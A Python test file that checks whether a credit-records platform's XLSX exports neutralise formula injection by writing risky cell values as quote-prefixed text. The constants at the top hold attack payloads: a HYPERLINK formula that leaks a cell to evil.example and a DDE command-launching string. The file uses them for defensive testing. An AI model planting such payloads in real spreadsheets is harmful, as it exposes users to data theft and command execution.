"""Formula injection: a name, a value or a reason that starts with =, +, - or @ arrives in every
XLSX the platform writes as text (no formula in the file, quote prefix set), unchanged. Each
test writes one export with such a value, the way an attacker would send it."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

from openpyxl import load_workbook

from tests import factories as f
from tests.lists.helpers import body, record
from xinyong.accounts.principal import cli_principal
from xinyong.checks import service as checks
from xinyong.core import xlsx
from xinyong.lists import exports
from xinyong.lists import service as lists
from xinyong.push import service as push
from xinyong.records.ingest import import_source
from xinyong.records.readers import rows_from_dicts
from xinyong.records.report import write_report
from xinyong.records.template import template_bytes

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
RISKY = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def assert_inert(data: bytes, *values: str) -> None:
    """No formula anywhere in the workbook, and each value present as quote-prefixed text."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(data))
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in values:
                    found[c.value] = c
    assert set(found) == set(values), f"missing: {set(values) - set(found)}"
    for c in found.values():
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


def test_helper_keeps_values_and_types(tmp_path):
    wb = xlsx.streamed_workbook()
    ws = wb.create_sheet("t")
    xlsx.append(ws, [*RISKY, "普通文本", 42, 1.5, date(2026, 1, 2), None, "名\x01称"])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    assert_inert(path.read_bytes(), *RISKY)
    row = next(load_workbook(path).active.iter_rows(values_only=True))
    assert row[4:8] == ("普通文本", 42, 1.5, row[7]) and row[7].date() == date(2026, 1, 2)
    assert row[-1] == "名称"  # a control character would have broken the whole file


def test_public_list_export(session, policy, tmp_path):
    firm = body(session, LINK)
    record(session, firm, "dishonest_judgment_debtor", "serious")
    lists.refresh(session)
    path = tmp_path / "bl.xlsx"
    assert exports.write_xlsx(session, policy, path) == 1
    assert_inert(path.read_bytes(), LINK)


def test_check_batch_result(session, tmp_path):
    who = cli_principal("tester")
    firm = body(session, LINK)
    path = tmp_path / "c.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["姓名", "统一社会信用代码或公民身份号码"])
        w.writerow([LINK, firm.code])
        w.writerow(["@SUM(1,2)", ""])
    batch = checks.create_batch(session, scenario="civil_servant_recruitment", purpose="-2+3", who=who,
                                file_name="c.csv")
    session.commit()
    result = tmp_path / "r.xlsx"
    checks.run_batch(session, batch.id, path, result, who)
    data = result.read_bytes()
    assert_inert(data, LINK)
    shown = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("@")]
    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)  # a person's name, masked


def test_check_and_push_statistics(policy, tmp_path):
    stats = checks.Stats(total=1, with_hits=1, with_feedback=0, by_scenario=[], by_department=[(LINK, 1, 1)],
                         by_region=[], by_month=[], measures_applied=[("-2+3", 1, 0)], outcomes=[])
    path = checks.statistics_xlsx(stats, policy, tmp_path / "s.xlsx")
    assert_inert(path.read_bytes(), LINK, "-2+3")
    pstats = push.PushStats(total=1, delivered=1, acked=0, given_up=0, median_ack_seconds=None, by_day=[],
                            by_department=[{"code": "x", "name": LINK, "total": 1, "delivered": 1, "acked": 0,
                                            "median_ack_seconds": None}], subscriptions=0)
    path = push.statistics_xlsx(pstats, tmp_path / "p.xlsx")
    assert_inert(path.read_bytes(), LINK)


def test_error_report(session, tmp_path):
    result = import_source(session, rows_from_dicts([f.penalty_row(1, 处罚决定日期=LINK)]), file_name="t.json",
                           category="admin_penalty")
    session.commit()
    assert result.rejected == 1
    path = write_report(result, tmp_path / "r.errors.xlsx")
    assert_inert(path.read_bytes(), LINK)


def test_template(policy):
    cat = policy.category("admin_penalty").model_copy(update={"description": None, "name": "-罚"})
    data = template_bytes(policy, cat, version_label="@v1")
    wb = load_workbook(io.BytesIO(data))
    lines = [c for c in wb["填写说明"]["A"] if c.value and "@v1" in c.value]
    assert lines and lines[0].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
